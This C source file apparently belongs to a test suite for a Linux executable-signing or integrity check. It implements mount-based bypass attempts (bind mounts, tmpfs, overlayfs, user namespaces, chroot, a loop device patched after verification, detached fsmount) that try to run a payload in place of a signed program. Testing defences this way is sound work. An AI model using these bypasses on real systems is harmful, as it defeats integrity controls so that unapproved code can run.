// SPDX-License-Identifier: BSD-3-Clause
/* Ways to show another content at the same path, or to the same file, by what is mounted. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

static void own_mounts(void)
{
	need(unshare(CLONE_NEWNS), "unshare");
	need(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL), "private mounts");
}

static int bind_over(void)
{
	own_mounts();
	copy_file("victim", "program");
	copy_file("payload", "other");
	if (mount("other", "program", NULL, MS_BIND, NULL) < 0)
		return -errno;
	return RUN("./program");
}

/* tmpfs keeps whatever signature it is given. */
static int tmpfs_over(void)
{
	own_mounts();
	need(mkdir("folder", 0755), "folder");
	copy_file("victim", "folder/program");
	if (mount("tmpfs", "folder", "tmpfs", 0, NULL) < 0)
		return -errno;
	copy_file("payload", "folder/program");
	need(borrow_signature("victim", "folder/program"), "signature");
	return RUN("./folder/program");
}

/* --- overlay: @victim below, the payload above or put below later --- */

static int mount_overlay(void)
{
	need(mount("tmpfs", "upper", "tmpfs", 0, NULL), "tmpfs");
	need(mkdir("upper/upper", 0755), "upper");
	need(mkdir("upper/work", 0755), "work");
	if (mount("overlay", "merged", "overlay", 0,
		  "lowerdir=lower,upperdir=upper/upper,workdir=upper/work") < 0)
		return errno == ENODEV ? NOT_HERE : -errno;
	return 0;
}

static void overlay_folders(void)
{
	own_mounts();
	need(mkdir("lower", 0755), "lower");
	need(mkdir("upper", 0755), "upper");
	need(mkdir("merged", 0755), "merged");
	copy_file("victim", "lower/program");
}

static int overlay_upper(void)
{
	int error;

	overlay_folders();
	error = mount_overlay();
	if (error)
		return error;
	answer_of("./merged/program");
	copy_file("payload", "merged/program");
	need(borrow_signature("victim", "merged/program"), "signature");
	return RUN("./merged/program");
}

/* The verdict may hang at the inode of the overlay, the content is of another. */
static int overlay_lower(void)
{
	static char bytes[1 << 20];
	size_t size = load_file("payload", bytes, sizeof(bytes));
	int error, fd;

	overlay_folders();
	error = mount_overlay();
	if (error)
		return error;
	error = answer_of("./merged/program");
	if (error != INTENDED)
		return error < 0 ? error : -EILSEQ;
	fd = open("lower/program", O_WRONLY);
	if (fd < 0 || write(fd, bytes, size) < 0)
		return -errno;
	close(fd);
	return RUN("./merged/program");
}

static int user_namespace(void)
{
	static char program[1 << 16];
	size_t size = load_file("payload", program, sizeof(program));
	int error;

	need(mkdir("folder", 0777), "folder");
	need(chroot("/proc/1/root"), "the outer root"); /* whoever is in another may not make one */
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return -errno;
	error = echo("0 0 1", "/proc/self/uid_map");
	error = error ? error : echo("deny", "/proc/self/setgroups");
	error = error ? error : echo("0 0 1", "/proc/self/gid_map");
	if (error)
		return error;
	if (mount("tmpfs", "folder", "tmpfs", 0, NULL) < 0)
		return -errno;
	write_file("folder/program", program, size, 0755);
	return RUN("folder/program");
}

static int change_root(void)
{
	need(mkdir("bin", 0755), "bin");
	copy_file("payload", "bin/busybox");
	need(chroot("."), "chroot");
	return RUN("/bin/busybox");
}

/* --- a file system on the attacker's own device, which changes below it --- */

/* A minimal ext2 made by the signed tool, in @image. */
static void make_image(const char *image)
{
	int fd = need(open(image, O_RDWR | O_CREAT, 0600), image);

	need(ftruncate(fd, 1 << 20), image);
	close(fd);
	need(freopen("/dev/null", "w", stderr) ? 0 : -1, "/dev/null");
	RUN("/bin/busybox", "mke2fs", "-F", image);
}

/* Replaces, in the image, the bytes of HOME/@from by those of HOME/@to. */
static int patch_image(const char *image, const char *from, const char *to)
{
	static char before[1 << 16], after[1 << 16], whole[1 << 20];
	size_t size = load_file(from, before, sizeof(before));
	int fd = open(image, O_RDWR);
	char *at;

	load_file(to, after, sizeof(after));
	if (fd < 0)
		return -errno;
	need(pread(fd, whole, sizeof(whole), 0), image);
	at = memmem(whole, sizeof(whole), before, size < 1024 ? size : 1024);
	if (!at) {
		errno = ENOENT;
		need(-1, "the victim in the image");
	}
	need(pwrite(fd, after, size, at - whole), image);
	need(fsync(fd), image);
	close(fd);
	return 0;
}

static int mount_own(const char *image, unsigned long flags)
{
	char device[32];
	int error, fd;

	own_mounts();
	make_image(image);
	need(mkdir("folder", 0755), "folder");
	error = attach_loop(image, device, sizeof(device), &fd); /* open until the attack ends */
	if (error)
		return error;
	if (mount(device, "folder", "ext4", flags, NULL) < 0 &&
	    mount(device, "folder", "ext2", flags, NULL) < 0)
		return -errno;
	return 0;
}

static int start_program(void)
{
	return RUN("./folder/file");
}

static int start_script(void)
{
	return RUN("/bin/busybox", "sh", "folder/file");
}

/* Signed when it was judged; read again from a device that says something else now. */
static int change_below(const char *from, const char *to, int (*start)(void))
{
	int error, fd;

	copy_file(from, "folder/file");
	error = start();
	if (error != -EILSEQ)
		return error; /* it should have answered what was signed */
	fd = need(open("folder/file", O_RDONLY), "file"); /* keeps the inode, not its pages */
	sync();
	error = patch_image("image", from, to);
	if (error)
		return error;
	need(echo("1", "/proc/sys/vm/drop_caches"), "drop_caches");
	error = start();
	close(fd);
	return error;
}

static int own_device(void)
{
	int error = mount_own("image", 0);

	return error ? error : change_below("victim", "payload", start_program);
}

/* Of a script the kernel does not see that it runs. */
static int own_device_script(void)
{
	int error = mount_own("image", MS_NOEXEC);

	return error ? error : change_below("victim.sh", "payload.sh", start_script);
}

/* Programs can be executed from what fsmount() makes, without move_mount(). */
static int detached_mount(void)
{
	int context = need(fsopen("tmpfs", 0), "fsopen"), fd;

	need(fsconfig(context, FSCONFIG_CMD_CREATE, NULL, NULL, 0), "fsconfig");
	fd = fsmount(context, 0, 0);
	if (fd < 0)
		return -errno;
	need(fchdir(fd), "fchdir");
	copy_file("payload", "program");
	return RUN("./program");
}

const struct attack mount_attacks[] = {
	{"bind-over", bind_over},	    {"tmpfs-over", tmpfs_over},
	{"overlay-upper", overlay_upper},   {"overlay-lower", overlay_lower},
	{"user-namespace", user_namespace}, {"change-root", change_root},
	{"own-device", own_device},	    {"own-device-script", own_device_script},
	{"detached-mount", detached_mount}, {NULL, NULL},
};
